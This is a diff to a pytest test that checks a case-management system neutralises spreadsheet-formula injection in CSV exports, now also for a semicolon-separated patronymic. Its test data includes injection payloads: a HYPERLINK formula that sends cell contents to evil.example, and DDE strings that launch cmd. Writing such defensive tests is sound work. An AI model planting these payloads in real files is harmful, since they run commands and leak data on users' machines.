@@ -169,18 +169,22 @@ def test_a_name_that_looks_like_a_formula_is_text_in_the_csv_and_unchanged_in_js
 
     chief = _chief(cast)
     family, given, summary = '=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1)", "+cmd|' /C calc'!A0"
-    cast.open_case(actor=chief, person={"family_name": family, "given_name": given}, summary=summary)
+    middle = "Leyla;=cmd|' /C calc'!A0"  # Excel in an az/ru region splits a CSV line at ";" too
+    cast.open_case(actor=chief, person={"family_name": family, "given_name": given, "patronymic": middle},
+                   summary=summary)
     client = api(chief)
     text = client.get(URL, {"format": "csv", "purpose": PURPOSE}).content.decode("utf-8")
     row = next(csv.DictReader(io.StringIO(text)))
     assert row["prs_SecondName"] == "'" + family and row["prs_FirstName"] == "'" + given
     assert row["nct_Summary"] == "'" + summary
-    formulas = [v for r in csv.reader(io.StringIO(text)) for v in r if v[:1] in ("=", "+", "-", "@")]
+    assert row["prs_MiddleName"] == "Leyla;'=cmd|' /C calc'!A0"
+    formulas = [p for r in csv.reader(io.StringIO(text)) for v in r for p in v.split(";") if p[:1] in ("=", "+", "-", "@")]
     assert not formulas, f"cells a spreadsheet runs: {formulas}"
     record = json.loads(client.get(URL, {"format": "json", "purpose": PURPOSE}).content)["cases"][0]
     assert (record["prs_SecondName"], record["prs_FirstName"], record["nct_Summary"]) == (family, given, summary)
     back = htcds.loads(text, "csv").cases[0]
     assert (back["prs_SecondName"], back["prs_FirstName"], back["nct_Summary"]) == (family, given, summary)
+    assert back["prs_MiddleName"] == record["prs_MiddleName"] == middle
 
 
 @pytest.mark.django_db
